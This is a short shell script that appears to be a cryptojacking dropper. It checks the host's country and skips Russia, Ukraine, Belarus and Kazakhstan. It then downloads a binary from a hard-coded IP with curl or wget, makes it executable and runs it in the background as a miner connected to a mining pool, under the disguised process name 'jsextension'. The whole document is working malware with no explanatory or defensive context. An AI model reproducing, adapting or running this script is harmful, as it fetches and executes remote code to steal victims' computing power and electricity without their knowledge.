IP=$(curl -k https://geo.example.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://198.51.100.9/download/jsextension -o jsextension
    if [ ! -f jsextension ]
    then
      wget http://198.51.100.9/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 0000 -p p &
  fi
fi
